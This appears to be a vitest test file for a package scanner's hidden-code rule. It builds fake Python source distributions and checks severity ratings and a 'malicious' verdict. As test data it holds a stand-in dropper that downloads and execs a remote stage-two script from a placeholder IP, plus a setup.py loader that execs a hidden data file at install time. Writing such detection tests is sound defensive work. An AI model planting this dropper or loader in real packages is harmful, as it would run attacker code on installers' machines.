import { describe, it, expect } from 'vitest';
import { analyze } from '../../../src/scan/analyze/index.js';
import { hits, maxSev, sdist } from './helpers.js';

// A stand-in payload (never run): download a script and exec it, the shape most droppers take.
const PAYLOAD = `import urllib.request\nexec(urllib.request.urlopen('http://203.0.113.7/stage2.py').read())\n`;
const LOADER = (name: string) => `import os\n_here = os.path.dirname(os.path.abspath(__file__))\nexec(compile(open(os.path.join(_here, '${name}')).read(), 'x', 'exec'))\n`;

describe('hidden-code', () => {
  it('flags install-time code that execs a data member (medium), and the member is analysed as install code', () => {
    const d = sdist({ 'setup.py': LOADER('setup_data.dat'), 'setup_data.dat': PAYLOAD });
    const a = analyze(d);
    expect(maxSev(a.findings.filter((f) => f.rule === 'hidden-code'))).toBe('medium');
    expect(a.findings.some((f) => f.path === 'pkg-1.0/setup_data.dat' && f.rule !== 'hidden-code')).toBe(true);
    expect(a.verdict).toBe('malicious');
  });
  it('still flags the exec of a data member too large to read', () => {
    const big = `x = 1\n${'#'.repeat(80)}\n`.repeat(16 * 1024); // over 1 MiB: not kept as data
    const d = sdist({ 'setup.py': LOADER('payload.bin') });
    d.members.push({ path: 'pkg-1.0/payload.bin', type: 'file', size: big.length, head: Buffer.from(big.slice(0, 64)) });
    expect(maxSev(analyze(d).findings.filter((f) => f.rule === 'hidden-code'))).toBe('medium');
  });
  it('does not flag reading a README next to an unrelated exec of a version file', () => {
    const setup = `from setuptools import setup\nlong = open('README.rst').read()\n\n\n\nns = {}\nexec(open('pkg/_version.py').read(), ns)\nsetup(name='pkg', version=ns['__version__'], long_description=long)\n`;
    expect(hits('hidden-code', { 'setup.py': setup, 'README.rst': 'pkg\n===\n\nA package.\n', 'pkg/_version.py': "__version__ = '1.0'\n" })).toEqual([]);
  });
  it('marks a setup.py padded past 256 KiB (low) and still reads its payload', () => {
    const pad = Array.from({ length: 9000 }, (_, i) => `def _h${i}(v):\n    return v * ${i}\n`).join('\n');
    const a = analyze(sdist({ 'setup.py': `${pad}\n${PAYLOAD}` }));
    expect(maxSev(a.findings.filter((f) => f.rule === 'hidden-code'))).toBe('low');
    expect(a.verdict).toBe('malicious');
  });
  it('holds an install-time file too large to read (medium)', () => {
    const d = sdist({ 'setup.py': 'from setuptools import setup\nsetup()\n' });
    const m = d.members.find((x) => x.path.endsWith('setup.py'))!;
    delete m.data;
    m.contentOmitted = true;
    m.size = 9 * 1024 * 1024;
    expect(maxSev(analyze(d).findings.filter((f) => f.rule === 'hidden-code'))).toBe('medium');
  });
});
